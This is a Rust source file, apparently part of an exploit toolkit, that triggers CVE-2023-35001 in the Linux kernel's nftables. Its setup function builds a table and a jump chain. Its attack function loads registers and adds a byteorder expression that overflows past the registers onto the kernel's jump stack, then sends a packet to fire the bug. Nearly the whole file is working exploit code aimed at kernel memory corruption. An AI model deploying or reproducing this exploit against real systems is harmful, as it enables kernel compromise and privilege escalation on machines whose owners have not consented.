//! CVE-2023-35001: numbers of two bytes are converted one register of four bytes after the other,
//! so that the last half of them lies behind the registers on the stack.

use std::io;

use crate::{attribute::Attributes, netlink::Batch, nft, packet};

const TABLE: &str = "otf_byteorder";
const PORT: u16 = 4001;

/// A base chain that jumps to one where the conversion will be. On the way back the kernel takes
/// the next rule from the jump stack, which lies right behind the registers.
pub fn setup() -> io::Result<()> {
    let mut jump = nft::to_port(PORT);
    jump.push(nft::end(nft::JUMP, Some("inner")));
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            nft::IP,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .add(
            libc::NFT_MSG_NEWCHAIN,
            nft::IP,
            nft::CREATE,
            &nft::base_chain(TABLE, "output", libc::NF_INET_LOCAL_OUT as u32, None),
        )
        .add(
            libc::NFT_MSG_NEWCHAIN,
            nft::IP,
            nft::CREATE,
            &nft::chain(TABLE, "inner"),
        )
        .add(
            libc::NFT_MSG_NEWRULE,
            nft::IP,
            nft::APPEND,
            &nft::rule(TABLE, "output", &jump),
        )
        .add(
            libc::NFT_MSG_NEWRULE,
            nft::IP,
            nft::APPEND,
            &nft::rule(TABLE, "output", &[nft::counter()]),
        )
        .send()
}

/// 16 numbers from the first register to the ninth one: eight of them end up behind the last.
pub fn attack() -> io::Result<()> {
    let mut expressions: Vec<_> = (nft::REG_1..=nft::REG_4)
        .map(|register| nft::immediate(register, &nft::value(&[0x11; 16])))
        .collect();
    let convert = Attributes::new()
        .number(1, nft::REG32_00)
        .number(2, nft::REG32_00 + 8)
        .number(3, 1)
        .number(4, 32)
        .number(5, 2);
    expressions.push(nft::expression("byteorder", &convert));
    Batch::new()
        .add(
            libc::NFT_MSG_NEWRULE,
            nft::IP,
            nft::APPEND,
            &nft::rule(TABLE, "inner", &expressions),
        )
        .send()?;
    packet::send(PORT)
}
